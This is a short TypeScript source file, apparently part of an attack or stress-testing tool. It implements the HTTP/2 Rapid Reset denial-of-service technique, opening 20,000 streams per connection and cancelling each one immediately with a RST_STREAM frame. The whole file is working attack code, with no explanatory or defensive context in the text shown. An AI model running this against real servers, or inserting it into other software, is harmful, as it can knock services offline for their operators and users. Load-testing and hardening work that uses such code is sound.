import { type AttackOptions, onEachConnection, write } from "./attack.ts";
import { flags, frame, frameType, preface, requestFields } from "./http2-frames.ts";

const streams = 20_000;
/** Streams per write. */
const batch = 200;
const cancel = Buffer.from([0, 0, 0, 8]);

/** Opens streams and resets each one immediately. */
export function http2RapidResets(options: AttackOptions): Promise<void> {
  const request = requestFields("POST", options.path ?? "/mutate");
  const run = async (socket: Parameters<typeof write>[0]): Promise<void> => {
    await write(socket, preface);
    for (let first = 1; first < 2 * streams; first += 2 * batch) {
      const frames: Buffer[] = [];
      for (let stream = first; stream < first + 2 * batch; stream += 2) {
        frames.push(frame(frameType.headers, flags.endHeaders, stream, request));
        frames.push(frame(frameType.resetStream, 0, stream, cancel));
      }
      if (!(await write(socket, Buffer.concat(frames)))) return;
    }
  };
  return onEachConnection(options, run, { protocol: "h2" });
}
